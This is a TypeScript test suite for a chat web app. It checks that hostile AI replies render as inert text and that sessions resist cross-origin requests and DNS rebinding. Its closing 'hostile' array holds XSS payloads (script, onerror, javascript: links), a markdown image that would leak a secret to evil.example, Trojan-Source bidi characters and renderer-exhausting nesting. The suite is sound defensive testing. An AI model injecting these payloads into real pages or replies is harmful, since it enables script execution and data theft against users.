import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { offline, script } from 'colloquy/engines'
import { ask } from '../browser.ts'
import { skip, withSite } from '../harness.ts'

describe('hostile replies and pages', { skip }, () => {
  test('a hostile reply is text: nothing in it runs, loads or opens', async () => {
    const reply = hostile.join('\n\n')
    await withSite(script([reply]), async ({ url, newLink, open }) => {
      const { page, errors } = await open()
      const requests: string[] = []
      page.on('request', (request) => requests.push(request.url()))
      await page.goto(newLink())
      await ask(page, 'Do your worst \u202e?')
      // Nothing reorders what stands around it, in a text, a title or code, once it is coloured too.
      await page.locator('pre .hljs-string').first().waitFor()
      const shown = await page.evaluate(() => document.title + document.body.innerText)
      assert.doesNotMatch(shown, /[\u202a-\u202e\u2066-\u2069]/)
      const directions = await page
        .locator('article.reply :is(li, li pre)')
        .evaluateAll((all) => all.map((one) => getComputedStyle(one).direction))
      assert.deepEqual(directions, ['rtl', 'ltr'], 'code in a right-to-left text is read from the left')
      assert.match(shown, /"user\[U\+202E\] \[U\+2066\]\/\/ Check/)
      assert.equal(await page.evaluate(() => 'hacked' in globalThis), false)
      const elements = await page.locator('article.reply :is(script, iframe, object, img, form, style, base)').count()
      assert.equal(elements, 0)
      const links = await page
        .locator('article.reply .markdown a')
        .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href))
      assert.deepEqual(links, Array(4).fill('https://example.com/safe'))
      // A link whose text names another host says where it leads.
      assert.deepEqual(shown.match(/\S+ \(example\.com\)/g), ['https://bank.example/login (example.com)'])
      assert.deepEqual(
        requests.filter((one) => !one.startsWith(url)),
        [],
      )
      assert.deepEqual(errors, [])
    })
  })

  test('a member signs in with a key, and sees own chats and no keys of others', async () => {
    await withSite(offline(), async ({ url, newLink, newKey, open }) => {
      const { page } = await open()
      await page.goto(newLink())
      await ask(page, 'What is 4 * 4?')
      await page.context().clearCookies()
      await page.goto('about:blank')
      await page.goto(`${url}/#k=${await newKey('ada')}`)
      await page.getByText('only you and its operator see them').waitFor()
      assert.equal(await page.locator('nav.chats li').count(), 0)
      await ask(page, 'What is 5 * 5?')
      assert.equal(await page.locator('nav.chats li').count(), 1)
      await page.getByRole('link', { name: 'Settings' }).click()
      await page.getByText(/^\$0 of \$5(\.00)? a day$/).waitFor()
      assert.equal(await page.getByText('Keys of programs').count(), 0)
      // The page forgets the member with the next session.
      await page.goto('about:blank')
      await page.goto(newLink())
      await page.getByText('in the same file as those of the terminal').waitFor()
    })
  })

  test('a page without a session reads nothing, and its link works once', async () => {
    await withSite(offline(), async ({ url, newLink, open }) => {
      const link = newLink()
      const { page } = await open()
      await page.goto(link)
      await ask(page, 'What is 4 * 4?')
      assert.doesNotMatch(page.url(), /#/)
      await page.context().clearCookies()
      await page.locator('#composer').fill('And 5 * 5?')
      await page.keyboard.press('Enter')
      await page.getByText('The session has ended').waitFor()
      assert.equal(await page.locator('#composer').inputValue(), 'And 5 * 5?')
      await page.getByRole('alert').getByRole('button', { name: 'Sign in' }).click()
      await page.getByLabel('Link or key').fill(newLink())
      await page.keyboard.press('Enter')
      await page.locator('nav.chats li').waitFor()
      assert.equal(await page.locator('#composer').inputValue(), 'And 5 * 5?')
      await page.context().clearCookies()
      const other = await open()
      let refused = 0
      other.page.on('response', (response) => (refused += Number(response.status() === 401)))
      await other.page.goto(link)
      await other.page.getByRole('heading', { name: 'Sign in to Colloquy' }).waitFor()
      await other.page.locator('input[name=key]:focus').waitFor()
      assert.equal(await other.page.locator('header, nav, #composer').count(), 0)
      for (const path of ['/api/conversations', '/api/changes', '/admin/usage']) {
        assert.ok((await fetch(url + path, { headers: { origin: 'http://evil.example' } })).status >= 401, path)
      }
      await other.page.getByLabel('Link or key').fill(link)
      await other.page.getByRole('button', { name: 'Sign in' }).click()
      await other.page.getByText('nor a link that is still valid').waitFor()
      await other.page.getByLabel('Link or key').fill(newLink())
      await other.page.getByRole('button', { name: 'Sign in' }).click()
      await other.page.locator('nav.chats li').waitFor()
      assert.equal(refused, 2, 'the page asks for nothing without a session')
      await other.page.goto(`${url}/settings`)
      await other.page.getByRole('button', { name: 'Sign out' }).click()
      await other.page.getByRole('heading', { name: 'Sign in to Colloquy' }).waitFor()
      // A server without keys shows its usage to everyone: an answer does not mean that there is a session.
      const { promise: isHeld, resolve: release } = Promise.withResolvers<void>()
      await page.route(/\/admin\/usage/, (route) => isHeld.then(() => route.continue()))
      await page.goto(`${url}/`)
      const signIn = page.getByRole('heading', { name: 'Sign in to Colloquy' })
      await signIn.waitFor()
      release()
      await page.waitForLoadState('networkidle')
      assert.equal(await signIn.count(), 1)
      // A link in the tab of the page differs in its fragment only.
      await page.goto(newLink())
      await page.locator('nav.chats li').waitFor()
    })
  })

  test('a page of another origin cannot use the session', async () => {
    await withSite(offline(), async ({ url, newLink, open }) => {
      const { page } = await open()
      await page.goto(newLink())
      await page.locator('#composer').waitFor()
      const foreign = await page.context().newPage()
      // Another port of the same host counts as the same site for cookies, but not as the same origin.
      await foreign.route('http://127.0.0.1:9/', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<p>foreign</p>' }),
      )
      await foreign.goto('http://127.0.0.1:9/')
      const outcome = await foreign.evaluate(async (target) => {
        const post = { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' } as const
        await fetch(`${target}/api/conversations`, post).catch(() => undefined)
        return fetch(`${target}/api/conversations`, { credentials: 'include' }).then(
          (response) => response.status,
          () => 'refused',
        )
      }, url)
      assert.equal(outcome, 'refused')
      const list = await page.evaluate(
        async () => ((await (await fetch('api/conversations')).json()) as { data: [] }).data,
      )
      assert.deepEqual(list, [])
    })
  })

  test('a name that leads here by DNS rebinding is refused, with the page and the API', async () => {
    await withSite(offline(), async ({ url, newLink, open }) => {
      const { page } = await open()
      await page.goto(newLink())
      await ask(page, 'What is 4 * 4?')
      const { port, pathname } = new URL(url)
      for (const path of ['/', '/api/conversations', '/admin/usage']) {
        const response = await page.goto(`http://rebind.example:${port}${pathname}${path}`)
        assert.equal(response?.status(), 403, path)
        assert.doesNotMatch((await response?.text()) ?? '', /4 \* 4/)
      }
    })
  })
})

const hostile = [
  '<script>globalThis.hacked = 1</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<iframe srcdoc="<script>top.hacked = 1</script>"></iframe>',
  '[click](javascript:globalThis.hacked=1) [data](data:text/html,<script>hacked=1</script>) [path](/api/conversations)',
  '![leak](https://evil.example/leak.png?q=secret)'.replace('https://evil.example', 'ftp://evil.example'),
  '[safe](https://example.com/safe)',
  '[https://bank.example/login](https://example.com/safe) [example.com/safe](https://example.com/safe)',
  '&lt;script&gt;globalThis.hacked = 1&lt;/script&gt; \u001b]0;title\u0007 \u202eright to left',
  `${'> '.repeat(2_000)}deep`,
  `| ${'a | '.repeat(50)}\n| ${'--- | '.repeat(50)}\n${`| ${'b | '.repeat(50)}\n`.repeat(300)}`,
  '```js\nif (level != "user\u202e \u2066// Check if admin\u2069 \u2066") {\n```',
  '- مرحبا\n\n  ```js\n  f(x)\n  ```',
  '`\u2067code` [link\u202d](https://example.com/safe)',
  '```html\n<script>globalThis.hacked = 1</script>\n```',
  '$$\\href{javascript:globalThis.hacked=1}{x} \\includegraphics{https://example.org/leak.png}$$',
  `$${'\\frac{'.repeat(150)}x${'}{2}'.repeat(150)}$ and $${'{'.repeat(900)}$`,
]
